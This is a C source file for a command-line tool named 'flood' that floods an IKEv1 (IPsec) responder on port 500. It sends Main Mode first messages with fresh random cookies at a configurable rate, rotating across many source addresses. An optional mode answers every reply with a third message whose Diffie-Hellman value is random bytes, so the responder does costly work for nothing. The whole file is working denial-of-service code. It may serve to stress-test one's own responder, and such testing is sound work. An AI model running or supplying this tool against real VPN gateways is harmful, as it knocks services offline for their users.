/*
 * flood - what somebody sends who only wants to keep a responder busy
 *
 *   flood --remote ADDRESS --first ADDRESS --sources N --port PORT --group modp2048|curve25519
 *         --seconds N --rate FIRSTS-PER-SECOND [--third]
 *
 * First messages of Main Mode, each with a cookie of its own, from `sources` addresses in turn; with
 * --third each answer is answered by a third message, whose Diffie-Hellman value is random bytes: it
 * costs us nothing and the responder all. Nothing is kept of any of them. Prints what was sent and
 * what came back.
 */
#include "wire.h"

#include "clock.h"

#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <openssl/rand.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define NONCE 32
#define HEADER 28
#define AT_NEXT 16
#define PAYLOAD_OF_SA 1
#define PAYLOAD_OF_KE 4

struct flood {
    struct wire wire;
    struct address first;
    struct address remote;
    uint64_t sources, port, seconds, rate;
    size_t ke_len;
    uint8_t group;
    bool third;
    uint64_t firsts, seconds_heard, thirds, fourths;
    uint8_t cookies[4096]; /* random bytes, taken in turn */
    size_t at;
};

static const uint8_t message_1[] = {
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0x10, 2, 0, 0, 0, 0, 0, 0, 0, 0, 84,
    0, 0, 0, 56, 0, 0, 0, 1, 0, 0, 0, 1,           /* SA: DOI, situation */
    0, 0, 0, 44, 1, 1, 0, 1,                       /* proposal */
    0, 0, 0, 36, 1, 1, 0, 0,                       /* transform */
    0x80, 1, 0, 7, 0x80, 14, 0, 128, 0x80, 2, 0, 4, /* AES, 128 bits; SHA2-256 */
    0x80, 3, 0, 1, 0x80, 4, 0, 0, 0x80, 11, 0, 1, 0x80, 12, 0x0e, 0x10, /* PSK, group, 3600 s */
};
enum { AT_GROUP = 75 };

static void send_first(struct flood *f)
{
    uint8_t bytes[sizeof message_1];
    struct path path = { .local = f->first, .remote = f->remote, .local_port = f->wire.port,
                         .remote_port = 500 };
    uint64_t n = f->firsts % f->sources;
    for (int i = 3; i >= 0; i--) {
        n += path.local.bytes[i];
        path.local.bytes[i] = (uint8_t)n;
        n >>= 8;
    }
    memcpy(bytes, message_1, sizeof bytes);
    bytes[AT_GROUP] = f->group;
    if (f->at + COOKIE_LEN > sizeof f->cookies) {
        f->at = 0;
        (void)RAND_bytes(f->cookies, sizeof f->cookies);
    }
    memcpy(bytes, f->cookies + f->at, COOKIE_LEN);
    bytes[0] |= 1; /* never zero */
    f->at += COOKIE_LEN;
    wire_send(&f->wire, &path, bytes, sizeof bytes);
    f->firsts++;
}

static void send_third(struct flood *f, const struct path *path, const uint8_t *message_2)
{
    uint8_t bytes[HEADER + 4 + KE_MAX + 4 + NONCE] = { 0 };
    size_t len = HEADER + 4 + f->ke_len + 4 + NONCE;
    uint8_t *ke = bytes + HEADER;
    uint8_t *nonce = ke + 4 + f->ke_len;
    memcpy(bytes, message_2, 2 * COOKIE_LEN);
    bytes[AT_NEXT] = PAYLOAD_OF_KE;
    bytes[17] = 0x10;
    bytes[18] = 2;
    bytes[26] = (uint8_t)(len >> 8);
    bytes[27] = (uint8_t)len;
    (void)RAND_bytes(ke, (int)(4 + f->ke_len + 4 + NONCE));
    ke[0] = 10; /* then the nonce */
    ke[1] = 0;
    ke[2] = (uint8_t)((4 + f->ke_len) >> 8);
    ke[3] = (uint8_t)(4 + f->ke_len);
    ke[4] &= 0x7f; /* below p */
    nonce[0] = nonce[1] = nonce[2] = 0;
    nonce[3] = 4 + NONCE;
    wire_send(&f->wire, path, bytes, len);
    f->thirds++;
}

static void on_datagram(void *context, const struct path *path, const uint8_t *bytes, size_t len)
{
    struct flood *f = context;
    if (len < HEADER) {
        return;
    }
    if (bytes[AT_NEXT] == PAYLOAD_OF_SA) {
        f->seconds_heard++;
        if (f->third) {
            send_third(f, path, bytes);
        }
    } else if (bytes[AT_NEXT] == PAYLOAD_OF_KE) {
        f->fourths++;
    }
}

static void run(struct flood *f)
{
    const uint64_t start = clock_ms();
    uint64_t now = start;
    while (now - start < f->seconds * 1000) {
        struct pollfd readable = { .fd = f->wire.fd, .events = POLLIN };
        uint64_t due = (now - start) * f->rate / 1000;
        for (int i = 0; i < 256 && f->firsts < due; i++) {
            send_first(f);
        }
        (void)poll(&readable, 1, f->firsts < due ? 0 : 1);
        while (wire_read(&f->wire, on_datagram, f) == WIRE_BATCH) {
        }
        now = clock_ms();
        if (f->firsts + f->rate / 2 < due) {
            f->firsts = due; /* the machine cannot do more */
        }
    }
}

static bool number(const char *text, uint64_t most, uint64_t *n)
{
    char *end = NULL;
    errno = 0;
    *n = strtoull(text, &end, 10);
    return errno == 0 && end != text && *end == '\0' && *n > 0 && *n <= most;
}

static bool take_group(struct flood *f, const char *word)
{
    bool modp = strcmp(word, "modp2048") == 0;
    f->group = modp ? 14 : 31;
    f->ke_len = modp ? 256 : 32;
    return modp || strcmp(word, "curve25519") == 0;
}

static bool take_option(struct flood *f, int option, const char *value)
{
    switch (option) {
    case 'r':
        return address_parse(&f->remote, value) == NULL;
    case 'a':
        return address_parse(&f->first, value) == NULL;
    case 'n':
        return number(value, 1 << 22, &f->sources);
    case 'P':
        return number(value, 65535, &f->port);
    case 'g':
        return take_group(f, value);
    case 's':
        return number(value, 3600, &f->seconds);
    case 'R':
        return number(value, 1000000, &f->rate);
    case 't':
        f->third = true;
        return true;
    default:
        return false;
    }
}

int main(int argc, char **argv)
{
    static const struct option words[] = {
        { "remote", required_argument, NULL, 'r' },  { "first", required_argument, NULL, 'a' },
        { "sources", required_argument, NULL, 'n' }, { "port", required_argument, NULL, 'P' },
        { "group", required_argument, NULL, 'g' },   { "seconds", required_argument, NULL, 's' },
        { "rate", required_argument, NULL, 'R' },    { "third", no_argument, NULL, 't' },
        { NULL, 0, NULL, 0 },
    };
    static struct flood f = { .sources = 1, .port = 4502, .seconds = 60, .rate = 5000, .group = 14,
                              .ke_len = 256, .at = sizeof f.cookies };
    int option;
    while ((option = getopt_long(argc, argv, "", words, NULL)) != -1) {
        if (!take_option(&f, option, optarg)) {
            (void)fprintf(stderr, "flood: wrong option or value: %s\n", argv[optind - 1]);
            return 100;
        }
    }
    if (f.remote.family != 4 || f.first.family != 4 || !wire_open(&f.wire, (uint16_t)f.port)) {
        (void)fprintf(stderr, "flood: --remote and --first are wanted, and the port free: %s\n",
                      strerror(errno));
        return 111;
    }
    run(&f);
    (void)printf("firsts %" PRIu64 "\nseconds %" PRIu64 "\nthirds %" PRIu64 "\nfourths %" PRIu64 "\n",
                 f.firsts, f.seconds_heard, f.thirds, f.fourths);
    wire_close(&f.wire);
    return 0;
}
